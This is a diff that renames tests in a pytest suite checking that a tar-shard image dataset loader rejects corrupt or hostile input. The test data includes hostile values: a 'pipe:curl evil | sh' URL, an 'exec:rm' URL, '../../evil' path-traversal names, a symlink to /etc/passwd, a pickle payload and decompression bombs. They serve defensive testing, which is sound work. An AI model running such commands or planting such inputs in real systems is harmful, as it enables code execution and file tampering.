@@ -94,19 +94,19 @@ def refused(data: DetectionDataset, message: str) -> None:
     assert contents(Path(data.index.folder).parent) == before
 
 
-def test_the_rewritten_shard_is_read(data: DetectionDataset) -> None:
+def test_sample_rewritten_shard_is_read(data: DetectionDataset) -> None:
     rewrite(data, member(f"{KEY}.jpg", jpeg()), usual())
     assert data.sample(0).image.size == (64, 48)
 
 
 @pytest.mark.parametrize("size", [lambda n: n // 1024 * 512, lambda n: n - 512, lambda n: n + 512, lambda n: 0])
-def test_a_shard_of_another_size(data: DetectionDataset, size: Callable[[int], int]) -> None:
+def test_sample_shard_of_another_size_raises(data: DetectionDataset, size: Callable[[int], int]) -> None:
     """Plain readers take a tar that was cut on a block boundary for a shorter one, without a word."""
     os.truncate(shard(data), size(shard(data).stat().st_size))
     refused(data, r"has [\d,]+ bytes, its index says [\d,]+: it is truncated")
 
 
-def test_a_cut_shard_whose_size_the_index_knows(data: DetectionDataset) -> None:
+def test_sample_cut_shard_raises(data: DetectionDataset) -> None:
     last = int(np.flatnonzero(data.index.samples.shard == 0)[-1])
     os.truncate(shard(data), int(data.index.samples.offset[last]) - 512)
     resize(data)
@@ -115,13 +115,13 @@ def test_a_cut_shard_whose_size_the_index_knows(data: DetectionDataset) -> None:
         data.sample(last)
 
 
-def test_a_shard_that_is_gone(data: DetectionDataset) -> None:
+def test_sample_missing_shard_raises(data: DetectionDataset) -> None:
     shard(data).unlink()
     with pytest.raises(ShardError, match=rf"cannot read .*000000\.tar: No such file .*{KEY}"):
         data.sample(0)
 
 
-def test_another_samples_bytes(data: DetectionDataset) -> None:
+def test_sample_bytes_of_another_sample_raise(data: DetectionDataset) -> None:
     shard(data).write_bytes(shard(data).read_bytes().replace(KEY.encode(), b"000000000004"))
     refused(data, rf"{KEY} is not where the index says \(no {KEY}\.jpg there\)")
 
@@ -129,12 +129,12 @@ def test_another_samples_bytes(data: DetectionDataset) -> None:
 @pytest.mark.parametrize(
     "name", [f"{KEY}.pyd", f"{KEY}.pickle", f"../{KEY}.jpg", f"/{KEY}.jpg", f"{KEY}.jpg.gz", f"x/{KEY}.jpg", "a" * 99]
 )
-def test_a_foreign_member(data: DetectionDataset, name: str) -> None:
+def test_sample_foreign_member_raises(data: DetectionDataset, name: str) -> None:
     rewrite(data, member(name, jpeg()), usual())
     refused(data, f"is not where the index says \\(no {KEY}.jpg there\\)")
 
 
-def test_a_prefix_that_makes_the_name_a_path(data: DetectionDataset) -> None:
+def test_sample_name_with_prefix_raises(data: DetectionDataset) -> None:
     rewrite(data, member(f"{KEY}.jpg", jpeg()), usual())
     content = bytearray(shard(data).read_bytes())
     content[345:355] = b"../../evil"
@@ -145,19 +145,19 @@ def test_a_prefix_that_makes_the_name_a_path(data: DetectionDataset) -> None:
 @pytest.mark.parametrize(
     "kind", [tarfile.SYMTYPE, tarfile.LNKTYPE, tarfile.CHRTYPE, tarfile.BLKTYPE, tarfile.FIFOTYPE, tarfile.DIRTYPE]
 )
-def test_links_and_devices(data: DetectionDataset, kind: bytes) -> None:
+def test_sample_link_or_device_raises(data: DetectionDataset, kind: bytes) -> None:
     rewrite(data, member(f"{KEY}.jpg", jpeg(), kind, linkname="/etc/passwd"), usual())
     refused(data, "is not a plain file in its tar|has another length in its tar|is not where")
 
 
 @pytest.mark.parametrize("kind", [tarfile.XHDTYPE, tarfile.GNUTYPE_LONGNAME, tarfile.GNUTYPE_SPARSE, b"A"])
-def test_headers_that_change_the_next_one(data: DetectionDataset, kind: bytes) -> None:
+def test_sample_extension_header_raises(data: DetectionDataset, kind: bytes) -> None:
     rewrite(data, member(f"{KEY}.jpg", jpeg(), kind), usual())
     refused(data, "is not a plain file in its tar")
 
 
 @pytest.mark.parametrize("field", [b"77777777777\0", b"\x80" + bytes(10) + b"\xff", b"not a size..", b"00000000000\0"])
-def test_a_header_with_another_size(data: DetectionDataset, field: bytes) -> None:
+def test_sample_header_with_another_size_raises(data: DetectionDataset, field: bytes) -> None:
     rewrite(data, member(f"{KEY}.jpg", jpeg()), usual())
     content = bytearray(shard(data).read_bytes())
     content[124:136] = field
@@ -179,12 +179,12 @@ def test_a_header_with_another_size(data: DetectionDataset, field: bytes) -> Non
         {"json_offset": 0},
     ],
 )
-def test_an_index_with_impossible_places(data: DetectionDataset, row: dict[str, int]) -> None:
+def test_sample_impossible_offset_in_index_raises(data: DetectionDataset, row: dict[str, int]) -> None:
     point(data, **row)
     refused(data, "has an impossible length")
 
 
-def test_a_compressed_tar_is_not_inflated(data: DetectionDataset) -> None:
+def test_sample_compressed_tar_is_not_inflated(data: DetectionDataset) -> None:
     packed = gzip.compress(shard(data).read_bytes(), compresslevel=0)
     shard(data).write_bytes(packed)
     resize(data)
@@ -202,12 +202,12 @@ class Bomb:
 
 
 @pytest.mark.parametrize("content", [gzip.compress(jpeg()), b"GIF89a" + bytes(100), b"x"])
-def test_content_that_is_no_picture(data: DetectionDataset, content: bytes) -> None:
+def test_sample_other_content_raises(data: DetectionDataset, content: bytes) -> None:
     rewrite(data, member(f"{KEY}.jpg", content), usual())
     refused(data, "is neither JPEG nor PNG")
 
 
-def test_nothing_is_unpickled(data: DetectionDataset, tmp_path: Path) -> None:
+def test_sample_pickle_is_not_loaded(data: DetectionDataset, tmp_path: Path) -> None:
     bomb = pickle.dumps(Bomb(tmp_path / "unpickled"))
     rewrite(data, member(f"{KEY}.jpg", jpeg()), member(f"{KEY}.json", bomb))
     refused(data, "has no annotation record")
@@ -225,26 +225,26 @@ def png(width: int, height: int, *chunks: tuple[bytes, bytes]) -> bytes:
 
 
 @pytest.mark.parametrize(("width", "height"), [(60_000, 60_000), (9_000, 9_000), (2**31 - 1, 1)])
-def test_a_pixel_bomb_is_refused_by_its_header(data: DetectionDataset, width: int, height: int) -> None:
+def test_sample_pixel_bomb_is_refused_by_header(data: DetectionDataset, width: int, height: int) -> None:
     record = {"width": width, "height": height}
     rewrite(data, member(f"{KEY}.png", png(width, height)), usual(**record))
     point(data, png=1, **record)
     refused(data, "pixels|broken png header")
 
 
-def test_a_bomb_in_the_metadata(data: DetectionDataset) -> None:
+def test_sample_metadata_bomb_is_not_inflated(data: DetectionDataset) -> None:
     text = b"comment\0\0" + zlib.compress(bytes(200 * 2**20))
     rewrite(data, member(f"{KEY}.png", png(64, 48, (b"zTXt", text))), usual())
     point(data, png=1)
     refused(data, "broken png header|does not decode")
 
 
-def test_a_picture_of_another_size(data: DetectionDataset) -> None:
+def test_sample_picture_of_another_size_raises(data: DetectionDataset) -> None:
     rewrite(data, member(f"{KEY}.jpg", jpeg((50, 64))), usual())
     refused(data, "is 64 x 50 pixels but its annotation says 64 x 48")
 
 
-def test_a_cut_picture(data: DetectionDataset) -> None:
+def test_sample_truncated_picture_raises(data: DetectionDataset) -> None:
     rewrite(data, member(f"{KEY}.jpg", jpeg()[:-200]), usual())
     refused(data, "does not decode")
 
@@ -266,7 +266,7 @@ NESTED = b"[" * 100_000 + b"]" * 100_000
         (json.dumps(RECORD | {"width": float("nan")}).encode(), "NaN"),
     ],
 )
-def test_a_record_that_is_none(data: DetectionDataset, record: bytes, message: str) -> None:
+def test_sample_invalid_record_raises(data: DetectionDataset, record: bytes, message: str) -> None:
     rewrite(data, member(f"{KEY}.jpg", jpeg()), member(f"{KEY}.json", record))
     refused(data, message)
 
@@ -288,25 +288,25 @@ GOOD = {"id": 1, "category_id": 13, "bbox": [4, 6, 12, 10], "area": 120, "iscrow
         {"iscrowd": 1},
     ],
 )
-def test_a_malformed_annotation(data: DetectionDataset, change: dict[str, Any]) -> None:
+def test_sample_malformed_annotation_raises(data: DetectionDataset, change: dict[str, Any]) -> None:
     rewrite(data, member(f"{KEY}.jpg", jpeg()), usual(annotations=[GOOD | change]))
     point(data, boxes=1)
     refused(data, "malformed annotation|boxes, the index says|no annotation record")
 
 
 @pytest.mark.parametrize("annotations", [5, {"a": 1}, ["x"], [[]], [{}]])
-def test_annotations_that_are_none(data: DetectionDataset, annotations: Any) -> None:
+def test_sample_invalid_annotations_raise(data: DetectionDataset, annotations: Any) -> None:
     rewrite(data, member(f"{KEY}.jpg", jpeg()), usual(annotations=annotations))
     refused(data, "malformed annotation")
 
 
-def test_boxes_that_the_index_does_not_know(data: DetectionDataset) -> None:
+def test_sample_other_number_of_boxes_raises(data: DetectionDataset) -> None:
     rewrite(data, member(f"{KEY}.jpg", jpeg()), usual(annotations=[GOOD]))
     refused(data, "has 1 boxes, the index says 0")
 
 
 @pytest.mark.parametrize("url", ["pipe:cat x", "pipe:curl evil | sh", "-", "", "file:x", "exec:rm"])
-def test_commands_are_never_run(url: str) -> None:
+def test_dataset_pipe_url_is_refused(url: str) -> None:
     with pytest.raises(ShardError, match=r"is neither a folder nor a URL|there is no shard folder"):
         DetectionDataset(url)
 
@@ -314,7 +314,7 @@ def test_commands_are_never_run(url: str) -> None:
 @pytest.mark.parametrize(
     ("key", "value"), [("sha256", "../../evil"), ("sha256", ""), ("name", "../evil.tar"), ("name", "a/b.tar")]
 )
-def test_names_that_leave_the_folder(data: DetectionDataset, key: str, value: str) -> None:
+def test_dataset_shard_name_outside_folder_is_refused(data: DetectionDataset, key: str, value: str) -> None:
     """The name of a shard becomes a path, and its sha256 the name of a file in the cache."""
     path = Path(data.index.folder) / "index.json"
     document = json.loads(path.read_text())
@@ -324,7 +324,7 @@ def test_names_that_leave_the_folder(data: DetectionDataset, key: str, value: st
         DetectionDataset(data.index.folder)
 
 
-def test_a_grayscale_picture_passes(data: DetectionDataset) -> None:
+def test_sample_grayscale_picture_is_rgb(data: DetectionDataset) -> None:
     buffer = io.BytesIO()
     Image.new("L", (64, 48), 7).save(buffer, "JPEG")
     rewrite(data, member(f"{KEY}.jpg", buffer.getvalue()), usual())
